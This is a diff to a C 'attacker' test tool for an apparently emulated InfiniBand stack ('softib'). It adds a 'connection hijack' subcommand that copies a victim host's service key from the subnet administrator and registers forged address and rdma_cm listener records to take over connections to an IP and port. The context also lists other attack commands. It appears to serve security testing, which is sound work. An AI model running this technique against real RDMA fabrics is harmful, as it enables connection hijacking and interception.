@@ -45,12 +45,24 @@
  *	socket.  A CM that believes it rejects each REQ whose QPN it knows as
  *	connected as stale and ends that connection.  Prints "sent: N",
  *	"rejected as stale: N" and "other answers: N".
+ *   attacker sa-claim-listener SM IP TCPPORT SECONDS
+ *	The connection hijack: becomes a port (of another host: run it in
+ *	another network namespace, SOFTIB_ADDR its address), reads the
+ *	address record of IP (IPv4) from the SA to learn its host's key, and
+ *	registers an address record for IP and a newer rdma_cm listener
+ *	record for IP:TCPPORT, both with that key and its own GID; then stays
+ *	a port (answering the SM, ignoring anything else) for SECONDS.
+ *	Prints "key: copied" or "key: blank" (what the SA told), then
+ *	"address record: STATUS" and "listener record: STATUS".
  *
- * TARGET and SM are ADDR:PORT.  Exit 0 when the attempt was made (whatever
+ * TARGET and SM are ADDR:PORT.  The socket is on SOFTIB_ADDR, else
+ * 127.0.0.1.  Exit 0 when the attempt was made (whatever
  * came of it), 2 for bad arguments, 1 when the socket cannot be had.
  */
+#include <arpa/inet.h>
 #include <errno.h>
 #include <poll.h>
+#include <stdint.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
@@ -601,6 +613,63 @@ static int cm_stale(const struct sib_endpoint *target, char **v)
 	return 0;
 }
 
+static int sa_claim_listener(const struct sib_endpoint *sm, const char *ip, uint16_t tcp_port,
+			     int seconds)
+{
+	uint8_t data[IB_SERVICE_RECORD_BYTES], ip16[16] = { [10] = 0xff, [11] = 0xff };
+	uint64_t end = now_ns() + (uint64_t)seconds * 1000000000ull;
+	struct ib_service_record q, rec;
+	struct sib_endpoint_record me_rec;
+	struct rx r = { 0 };
+	uint16_t me = become_port(sm, &r);
+	bool blank = true;
+	int answered;
+
+	if (!me || inet_pton(AF_INET, ip, ip16 + 12) != 1 || endpoint_of(sm, &r, me, me, &me_rec)) {
+		printf("not configured\n");
+		return 0;
+	}
+	/* The address's record, as any port may read it: its host's key? */
+	memset(&q, 0, sizeof(q));
+	q.ServiceID = SIB_SR_ADDRESS_SID_PREFIX | 0x0400000000ull | (uint64_t)ip16[12] << 24 |
+		      (uint64_t)ip16[13] << 16 | (uint64_t)ip16[14] << 8 | ip16[15];
+	memcpy(q.ServiceData8, ip16, 16);
+	ib_service_record_encode(&q, data);
+	memset(&rec, 0, sizeof(rec));
+	if (sa_ask(sm, &r, me, IB_MAD_METHOD_GET, IB_SA_ATTR_SERVICE_RECORD,
+		   IB_SR_COMP_SERVICE_ID | (0xffffull << 7), data, sizeof(data)) &&
+	    !r.sa_status)
+		ib_service_record_decode(&rec, r.sa_data);
+	for (int i = 0; i < 16; i++)
+		blank &= !rec.ServiceKey[i];
+	printf("key: %s\n", blank ? "blank" : "copied");
+	/* Its own address record for IP, under that key. */
+	q.ServiceGID = (union ib_gid){ 0 };
+	memcpy(q.ServiceGID.raw, me_rec.GID, 16);
+	q.ServiceP_Key = 0xffff;
+	q.ServiceLease = 0xffffffffu;
+	memcpy(q.ServiceKey, rec.ServiceKey, 16);
+	snprintf((char *)q.ServiceName, sizeof(q.ServiceName), "softib address");
+	ib_service_record_encode(&q, data);
+	answered = sa_ask(sm, &r, me, IB_MAD_METHOD_SET, IB_SA_ATTR_SERVICE_RECORD,
+			  IB_SR_COMP_SERVICE_ID | IB_SR_COMP_SERVICE_GID, data, sizeof(data));
+	print_status("address record", answered, r.sa_status);
+	/* A listener record for IP:TCPPORT, newer than any. */
+	q.ServiceID = 0x0000000001060000ull | tcp_port; /* RDMA IP CM, TCP (IBA A11) */
+	memset(q.ServiceName, 0, sizeof(q.ServiceName));
+	snprintf((char *)q.ServiceName, sizeof(q.ServiceName), "softib rdma_cm");
+	q.ServiceData64[0] = 1ull << 8; /* one address */
+	q.ServiceData64[1] = UINT64_MAX >> 1;
+	ib_service_record_encode(&q, data);
+	answered = sa_ask(sm, &r, me, IB_MAD_METHOD_SET, IB_SA_ATTR_SERVICE_RECORD,
+			  IB_SR_COMP_SERVICE_ID | IB_SR_COMP_SERVICE_GID, data, sizeof(data));
+	print_status("listener record", answered, r.sa_status);
+	fflush(stdout);
+	while (now_ns() < end)
+		listen_for(&r, 100);
+	return 0;
+}
+
 static int usage(void)
 {
 	fprintf(stderr, "usage: attacker set-lid TARGET LID [COUNT] [--m-key K]\n"
@@ -610,7 +679,8 @@ static int usage(void)
 			"       attacker sa-lookup SM LID\n"
 			"       attacker sa-delete SM LID SERVICEID\n"
 			"       attacker cm-stale TARGET SLID DLID CAGUID SERVICEID QPN_FIRST "
-			"QPN_LAST\n");
+			"QPN_LAST\n"
+			"       attacker sa-claim-listener SM IP TCPPORT SECONDS\n");
 	return 2;
 }
 
@@ -621,7 +691,8 @@ int main(int argc, char **argv)
 
 	if (argc < 3 || sib_endpoint_parse(argv[2], 0, &target))
 		return usage();
-	if (sib_link_udp_open("127.0.0.1", NULL, &link_))
+	if (sib_link_udp_open(getenv("SOFTIB_ADDR") ? getenv("SOFTIB_ADDR") : "127.0.0.1", NULL,
+			      &link_))
 		return 1;
 	srand((unsigned)now_ns());
 	if (!strcmp(argv[1], "set-lid") && argc >= 4) {
@@ -643,6 +714,8 @@ int main(int argc, char **argv)
 		rc = forge_write(&target, argv + 3);
 	} else if (!strcmp(argv[1], "sa-lookup") && argc == 4) {
 		rc = sa_lookup(&target, (uint16_t)strtoul(argv[3], NULL, 0));
+	} else if (!strcmp(argv[1], "sa-claim-listener") && argc == 6) {
+		rc = sa_claim_listener(&target, argv[3], (uint16_t)atoi(argv[4]), atoi(argv[5]));
 	} else if (!strcmp(argv[1], "cm-stale") && argc == 9) {
 		rc = cm_stale(&target, argv + 3);
 	} else if (!strcmp(argv[1], "sa-delete") && argc == 5) {
